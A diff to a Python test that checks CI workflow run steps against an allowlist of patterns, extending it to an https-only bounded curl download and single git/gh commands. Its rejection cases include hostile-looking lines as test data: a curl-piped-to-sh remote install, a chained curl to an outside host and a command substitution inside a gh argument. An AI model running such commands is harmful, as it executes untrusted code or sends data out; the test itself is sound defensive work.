@@ -1,5 +1,6 @@
-"""The workflows only call the project: every `run:` step is a setup step or an `invoke`/`nox` command, and every
-matrix is the one `invoke matrix` computes (never a list of flavours typed into a workflow)."""
+"""The workflows only call the project: every `run:` step is a setup step, an `invoke`/`nox` command or (backport.yml)
+the download of its input and the git/gh commands of its pull request, and every matrix is the one `invoke matrix`
+or `invoke lines` computes (never a list of flavours or lines typed into a workflow)."""
 
 import re
 from pathlib import Path
@@ -22,13 +23,21 @@ SETUP_STEPS = [
     re.compile(rf"echo {_VAR} \| docker login [a-z0-9.-]+(:[0-9]+)? --username {_VAR} --password-stdin"),
 ]
 PROJECT_COMMAND = re.compile(r"\.venv/bin/(invoke|nox) .+")
+# backport.yml's input: https only (redirects too), bounded in size and time, to a file named by the environment.
+DOWNLOAD = re.compile(
+    rf"curl --fail --silent --show-error --location --proto =https --proto-redir =https --max-filesize [0-9]+ "
+    rf"--max-time [0-9]+ --output {_VAR} {_VAR}"
+)
+GIT_COMMAND = re.compile(r"(git|gh) [a-z-]+.*")  # a branch, a commit, a push, a pull request: one command a line
 # The release workflow's first step: a dispatch from another branch fails with one line, before any secret is used.
 BRANCH_GUARD_IF = "github.ref != format('refs/heads/{0}', github.event.repository.default_branch)"
+# nightly.yml's: its scheduled runs are on the default branch, and their event names no repository.
+DISPATCH_BRANCH_GUARD_IF = f"github.event_name == 'workflow_dispatch' && {BRANCH_GUARD_IF}"
 BRANCH_GUARD_RUN = [re.compile(r'echo "::error::[^"`$]*(\$[A-Z_]+[^"`$]*)*"'), re.compile("exit 1")]
 SHELL_CONTROL = re.compile(r"[;&|`<>]|\$\(")  # a second command, a pipe, a redirection or a substitution
 MATRIX_FROM_JOB = re.compile(r"\$\{\{ fromJSON\(needs\.(?P<job>[\w-]+)\.outputs\.(?P<output>[\w-]+)\) \}\}")
 STEP_OUTPUT = re.compile(r"\$\{\{ steps\.(?P<step>[\w-]+)\.outputs\.(?P<output>[\w-]+) \}\}")
-MATRIX_COMMAND = re.compile(r"\.venv/bin/invoke matrix \S+ --github-output")
+MATRIX_COMMAND = re.compile(r"\.venv/bin/invoke (matrix \S+|lines) --github-output")
 
 
 def load(path: Path) -> dict:
@@ -42,13 +51,14 @@ def run_step_problems(workflow: dict) -> list[str]:
             if "uses" in step and not CHECKOUT.fullmatch(step["uses"]):
                 problems.append(f"{job_id}: {step['uses']!r} is not actions/checkout pinned by commit")
             lines = list(filter(None, map(str.strip, step.get("run", "").splitlines())))
-            if step.get("if") == BRANCH_GUARD_IF and len(lines) == 2:
+            if step.get("if") in (BRANCH_GUARD_IF, DISPATCH_BRANCH_GUARD_IF) and len(lines) == 2:
                 if all(pattern.fullmatch(line) for pattern, line in zip(BRANCH_GUARD_RUN, lines, strict=True)):
                     continue
             for line in lines:
-                setup = any(pattern.fullmatch(line) for pattern in SETUP_STEPS)
+                setup = any(pattern.fullmatch(line) for pattern in [*SETUP_STEPS, DOWNLOAD])
                 project = PROJECT_COMMAND.fullmatch(line) and not SHELL_CONTROL.search(line)
-                if not (setup or project):
+                github = GIT_COMMAND.fullmatch(line) and not SHELL_CONTROL.search(line)
+                if not (setup or project or github):
                     problems.append(f"{job_id}: {line!r} is neither a setup step nor a .venv/bin invoke/nox command")
     return problems
 
@@ -172,6 +182,11 @@ def test_the_matrix_check_refuses_a_matrix_not_computed_by_the_project(workflow)
         "invoke release 2.2.4-1",
         'echo "$TOKEN" | docker login quay.io --username "$USER" --password "$TOKEN"',
         ".ci/bootstrap\ncurl -sSL https://example.invalid/install.sh | sh",
+        'curl --fail --silent --show-error --location --output "$PATCH_FILE" "$PATCH_URL"',  # http too, unbounded
+        "curl --fail --silent --show-error --location --proto =https --proto-redir =https --max-filesize 1048576 "
+        '--max-time 60 --output "$PATCH_FILE" "$PATCH_URL" | sh',
+        'git push origin "$BRANCH" && curl https://example.invalid',
+        'gh pr create --title "$(cat title)"',
     ],
 )
 def test_the_run_step_check_refuses_anything_else(run):
